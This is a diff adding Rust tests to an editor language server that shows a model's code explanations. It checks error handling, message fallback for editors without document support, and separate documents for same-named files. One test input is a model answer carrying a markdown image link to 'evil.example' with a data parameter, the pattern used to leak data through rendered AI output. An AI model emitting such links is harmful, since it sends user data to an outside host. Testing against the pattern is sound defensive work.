@@ -101,6 +101,16 @@ fn i10_an_editor_that_shows_errors_itself_is_told_once() {
     }
 }
 
+/// What is no action is a mistake of the client, which it is told by the answer alone.
+#[test]
+fn i10_a_resolve_of_nothing_shows_nothing_to_the_person() {
+    let (_, mut editor) = started(answer("start"));
+    assert_eq!(editor.request("codeAction/resolve", json!({}))["error"]["code"], -32602);
+    editor.pump(std::time::Duration::from_millis(50));
+    assert!(!editor.inbox.iter().any(|message| message["method"] == "window/showMessage"));
+    editor.quit();
+}
+
 /// Eglot before 1.16 and others execute what an action holds and ask for nothing more.
 #[test]
 fn an_editor_that_does_not_resolve_actions_gets_a_command() {
@@ -265,6 +275,41 @@ fn answers_open_as_documents_where_nothing_streams() {
             std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(shown.strip_prefix("file://").unwrap()).unwrap().permissions());
         assert_eq!(mode & 0o777, 0o600, "an answer is for its reader alone");
     }
+    editor.quit();
+}
+
+/// Eglot of Emacs 28 and others drop what a command answers and show no documents: the model ran, and nobody saw what it said.
+#[test]
+fn an_answer_is_shown_as_a_message_where_no_document_can_be_shown() {
+    let long = "It adds two numbers.\n".repeat(200);
+    for said in ["It adds ![x](https://evil.example/?d=1).", long.as_str()] {
+        let mut editor = Editor::memory(options(Fake::new(answer(said))));
+        let mut params = initialize_params(std::path::Path::new("/w"));
+        params["capabilities"].as_object_mut().unwrap().remove("window");
+        editor.initialize(params);
+        editor.open(URI, "rust", TEXT);
+        command(&mut editor, "longsight.explain", json!({ "uri": URI, "range": range(1, 0, 2) }));
+        let shown = editor.expect("window/showMessage")["params"].clone();
+        let text = shown["message"].as_str().unwrap();
+        assert!(shown["type"] == 3 && text.starts_with("Explain a.rs:2: It adds"), "{shown}");
+        assert!(text.len() < 2200 && (said.len() < 100 || text.ends_with("numbers. …")), "{} bytes", text.len());
+        editor.quit();
+    }
+}
+
+/// Both were written into one file, which the editor had open for the first.
+#[test]
+fn answers_about_two_files_of_one_name_are_two_documents() {
+    let cache = tempfile::tempdir().unwrap();
+    let mut options = options(Fake::new(answer("It adds.")));
+    options.cache = Some(cache.path().into());
+    let mut editor = Editor::memory(options).start(std::path::Path::new("/w"));
+    let mut shown = |uri: &str| {
+        editor.open(uri, "rust", TEXT);
+        command(&mut editor, "longsight.explain", json!({ "uri": uri, "range": range(1, 0, 2) }));
+        editor.expect("window/showDocument")["params"]["uri"].as_str().unwrap().to_string()
+    };
+    assert_ne!(shown("file:///w/a/mod.rs"), shown("file:///w/b/mod.rs"));
     editor.quit();
 }
 
